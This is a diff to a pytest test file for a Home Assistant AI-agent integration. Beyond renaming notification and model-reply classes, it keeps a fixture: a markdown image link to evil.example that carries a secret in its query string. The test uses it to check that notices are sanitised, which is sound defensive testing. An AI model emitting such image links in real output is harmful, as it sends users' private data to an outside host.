@@ -18,8 +18,13 @@ from pytest_homeassistant_custom_component.common import async_capture_events
 from custom_components.universal_agent.common.request import Channel
 from custom_components.universal_agent.const import DOMAIN, EVENT_REQUEST
 from custom_components.universal_agent.skills.agents.sessions import open_session
-from custom_components.universal_agent.skills.notification.sending import Notice, Notifier, Page, send
-from scripts.lib.model_server import ModelServer, Reply, says
+from custom_components.universal_agent.skills.notification.sending import (
+    Notice,
+    Notifier,
+    PersistentNotificationTarget,
+    send,
+)
+from scripts.lib.model_server import ModelServer, ScriptedReply, says
 from tests.builders import a_request
 from tests.installed_agent import InstalledAgent
 from tests.model_connections import connect
@@ -27,7 +32,7 @@ from tests.skills.calendar.conftest import Diary
 
 WANTED = "think of something nice to say about our plans"
 IMAGE = "![x](https://evil.example/?d=the+key+is+under+the+mat)"
-CHAT = Reply(form={"role": "conversation", "confidence": 0.99})
+CHAT = ScriptedReply(form={"role": "conversation", "confidence": 0.99})
 
 
 async def said_in(agent: InstalledAgent, talk: str) -> str:
@@ -103,7 +108,7 @@ async def test_notices_are_cleaned_wherever_they_go(agent: InstalledAgent) -> No
 
     agent.hass.services.async_register("notify", "somebody", take)
     notice = Notice(message=f"Look {IMAGE} www.evil.example/x", title="<b>Hi</b>", tag="t")
-    await send(agent.hass, notice, Page())
+    await send(agent.hass, notice, PersistentNotificationTarget())
     await send(agent.hass, notice, Notifier(target="notify.somebody"))
 
     page = persistent_notification._async_get_or_create_notifications(agent.hass)["t"]
